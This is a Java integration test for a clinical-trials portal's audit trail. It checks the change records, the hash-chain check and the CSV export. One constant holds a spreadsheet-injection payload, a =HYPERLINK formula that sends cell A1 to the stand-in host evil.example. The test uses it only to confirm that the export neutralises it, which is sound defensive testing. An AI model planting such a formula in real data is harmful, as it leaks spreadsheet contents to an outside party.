package org.opentrials.portal.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * What an administrator finds in the audit trail after an investigator's change: who, when, which
 * field, old and new value, the reason; the chain verifies; the CSV export carries what staff typed
 * as text, never as a spreadsheet formula. (Tampering with stored rows is shown by the services'
 * AuditChainTest: the server holds the embedded database file locked.)
 */
class AuditTrailIT extends PortalIT {
  private static final Pattern ROW =
      Pattern.compile("<tr class=\"entry\"(.*?)</tr>", Pattern.DOTALL);
  private static final String FORMULA =
      "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Call us\")";

  @AfterEach
  void putTheDemoValuesBack() {
    CedarsSite.restore(server, "Restored by AuditTrailIT");
  }

  @Test
  void anAdministratorSeesTheChangeWithOldAndNewValueAndReason() {
    StaffSession investigator = CedarsSite.signedIn(server, "investigator.cedars");
    String reason = "AuditTrailIT " + System.nanoTime() + ": paused for the move";
    HttpResponse<String> saved =
        CedarsSite.save(investigator, Map.of("status", "ACTIVE_NOT_RECRUITING", "reason", reason));
    assertThat(saved.body()).contains("Saved.");

    StaffSession admin = CedarsSite.signedIn(server, "admin");
    String page =
        admin
            .get(
                "/admin/audit/index.xhtml?actor=investigator.cedars&action=UPDATE&entity="
                    + CedarsSite.KEY)
            .body();
    List<String> rows = rows(page).stream().filter(r -> r.contains(reason)).toList();
    assertThat(rows)
        .anySatisfy(
            r ->
                assertThat(r)
                    .contains(
                        "<td class=\"field\">status</td>",
                        "<td class=\"old\">RECRUITING</td>",
                        "<td class=\"new\">ACTIVE_NOT_RECRUITING</td>",
                        "investigator.cedars",
                        "(INVESTIGATOR)",
                        "NCT02633163/cedars-sinai"));

    String signIns =
        admin.get("/admin/audit/index.xhtml?actor=investigator.cedars&action=SIGN_IN").body();
    assertThat(rows(signIns)).isNotEmpty().allSatisfy(r -> assertThat(r).contains("127.0.0.1"));
  }

  @Test
  void theChainVerifies() {
    StaffSession admin = CedarsSite.signedIn(server, "admin");
    HttpResponse<String> r =
        admin.submit(admin.form("/admin/audit/index.xhtml", "chain"), Map.of(), "verify");
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(r.body()).contains("The chain is intact:").containsPattern("Head hash [0-9a-f]{64}");
  }

  @Test
  void theCsvExportCarriesAFormulaAsText() {
    StaffSession investigator = CedarsSite.signedIn(server, "investigator.cedars");
    assertThat(
            CedarsSite.save(
                    investigator, Map.of("contactName", FORMULA, "reason", "AuditTrailIT formula"))
                .body())
        .contains("Saved.");
    assertThat(get(CedarsSite.PUBLIC_SITE).body())
        .as("the public page shows it as text")
        .contains(
            "<p class=\"contact-name\">=HYPERLINK(\"https://evil.example/?leak=\"&amp;A1,\"Call us\")</p>");

    StaffSession admin = CedarsSite.signedIn(server, "admin");
    HttpResponse<String> csv =
        admin.get("/admin/audit/export.csv?entity=" + CedarsSite.KEY + "&action=UPDATE");
    assertThat(csv.statusCode()).isEqualTo(200);
    assertThat(csv.headers().firstValue("Content-Type"))
        .hasValueSatisfying(t -> assertThat(t).startsWith("text/csv"));
    assertThat(csv.headers().firstValue("Content-Disposition"))
        .hasValueSatisfying(d -> assertThat(d).startsWith("attachment"));
    assertThat(csv.headers().firstValue("Cache-Control")).contains("no-store");
    assertThat(csv.body())
        .startsWith("\"id\",\"occurred_at_utc\",\"actor\"")
        .contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Call us\"\")\"")
        .doesNotContain(",\"=HYPERLINK");
  }

  private static List<String> rows(String page) {
    Matcher m = ROW.matcher(page);
    List<String> rows = new java.util.ArrayList<>();
    while (m.find()) {
      rows.add(m.group(1));
    }
    return rows;
  }
}
